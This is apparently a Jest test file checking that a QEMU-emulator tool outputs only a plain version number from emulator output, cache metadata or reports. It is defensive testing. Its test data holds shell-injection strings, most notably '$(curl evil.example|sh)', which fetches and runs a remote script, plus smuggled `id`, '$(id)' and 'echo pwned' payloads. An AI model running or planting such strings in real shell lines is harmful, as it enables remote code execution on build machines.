/**
 * The `qemu-version` output: a plain version number or nothing, wherever it was read from, since a
 * workflow may put it into a shell line.
 */
import { beforeEach, describe, expect, it } from '@jest/globals'
import { createHash } from 'node:crypto'
import * as fs from 'node:fs'
import * as path from 'node:path'
import { findCached } from '../../src/acquire/tool-cache/read.js'
import { storeInCache } from '../../src/acquire/tool-cache/publish.js'
import { hostPlatform } from '../../src/platform/host.js'
import { qemuVersion } from '../../src/acquire/emulators.js'
import { qemuVersionOf } from '../../src/acquire/qemu-version.js'
import { byArch } from '../../src/platform/platforms.js'
import { buildProbe } from '../../src/platform/elf.js'
import { outputsFor } from '../../src/report/report.js'
import { captureOutput } from '../helpers/output.js'
import { tempDirs } from '../helpers/tmp.js'

const HOSTILE = '10.2.3; $(curl evil.example|sh)'

describe('a QEMU version', () => {
  it.each([
    ['10.2.3', '10.2.3'],
    ['9.2', '9.2'],
    ['1.2.3.4', '1.2.3.4'],
    ['10.2.3-68', '10.2.3-68'],
    ['8.2.2+ds', '8.2.2+ds'],
    ['7.2.0~rc1', '7.2.0~rc1'],
    ['10.0.0.rc2.1', '10.0.0.rc2.1'],
    [HOSTILE, undefined],
    ['10.2.3`id`', undefined],
    ['10.2.3 ', undefined],
    ['10.2.3\n', undefined],
    ['10.2.3\necho pwned', undefined],
    ['10.2.3-$HOME', undefined],
    ['10.2.3-a b', undefined],
    ['1..2', undefined],
    ['10.2.3-', undefined],
    ['10', undefined],
    ['v10.2.3', undefined],
    ['', undefined],
    [10.2, undefined],
    [undefined, undefined],
    [null, undefined],
    [['10.2.3'], undefined]
  ])('%j is %j', (value, want) => expect(qemuVersionOf(value)).toBe(want))
})

describe('is taken only as a plain version, wherever it is read', () => {
  const tmp = tempDirs('sq-version')
  captureOutput()
  beforeEach(() => {
    process.env.RUNNER_TOOL_CACHE = tmp('toolcache')
  })

  const elf = Buffer.concat([buildProbe(hostPlatform()), Buffer.alloc(4096, 1)])

  it("from an emulator's --version", async () => {
    const dir = tmp('emulator')
    const say = (text: string): void =>
      fs.writeFileSync(path.join(dir, 'qemu-aarch64'), `#!/bin/sh\necho '${text}'\n`, { mode: 0o755 })
    say('qemu-aarch64 version 10.2.3 (tonistiigi/binfmt)')
    expect(await qemuVersion(dir, new Set(['arm64']))).toBe('10.2.3')
    say('qemu-aarch64 version 10.2.3;$(id)')
    expect(await qemuVersion(dir, new Set(['arm64']))).toBeUndefined()
  })

  it.each([
    ['10.2.3', '10.2.3'],
    [HOSTILE, undefined]
  ])("from the tool cache's metadata: %j", async (version, want) => {
    const key = createHash('sha256').update(version).digest('hex')
    const dir = tmp('emus')
    fs.writeFileSync(path.join(dir, 'qemu-aarch64'), elf, { mode: 0o755 })
    await storeInCache({ dir, archs: new Set(['arm64']), key, version, origin: 'image', from: 'registry.example/x' }, true)
    const cached = await findCached(key)
    expect(cached?.archs).toEqual(new Set(['arm64']))
    expect(cached?.version).toBe(want)
  })

  it('in the outputs, whatever a source handed over', () => {
    const ok = [{ platform: byArch('arm64'), native: false, ok: true, how: 'test' }]
    expect(outputsFor(ok, [], '10.2.3').qemuVersion).toBe('10.2.3')
    expect(outputsFor(ok, [], HOSTILE).qemuVersion).toBe('')
  })
})
